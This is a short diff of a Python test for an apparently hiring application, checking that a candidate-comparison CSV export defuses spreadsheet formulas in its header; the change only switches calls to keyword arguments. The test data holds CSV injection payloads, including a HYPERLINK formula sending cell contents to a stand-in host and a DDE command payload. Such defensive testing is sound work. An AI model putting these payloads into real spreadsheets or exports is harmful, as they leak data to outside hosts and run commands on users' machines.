@@ -303,8 +303,8 @@ def test_the_comparison_csv_defuses_formulas_in_its_header_too(as_user, hiring_m
     position = make_position(hiring_manager=hiring_manager, recruiter=recruiter)
     evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-cmd"]
     plan = make_plan(position=position, competencies=evil)
-    interview = make_interview(candidate=make_candidate(position, "+Ada"), plan=plan, interviewers=[interviewer])
-    make_scorecard(interview, interviewer, [3, 2, 4])
+    interview = make_interview(candidate=make_candidate(position=position, name="+Ada"), plan=plan, interviewers=[interviewer])
+    make_scorecard(interview=interview, interviewer=interviewer, scores=[3, 2, 4])
     response = as_user(recruiter).get(f"/positions/{position.pk}/compare/?format=csv")
     import csv
 
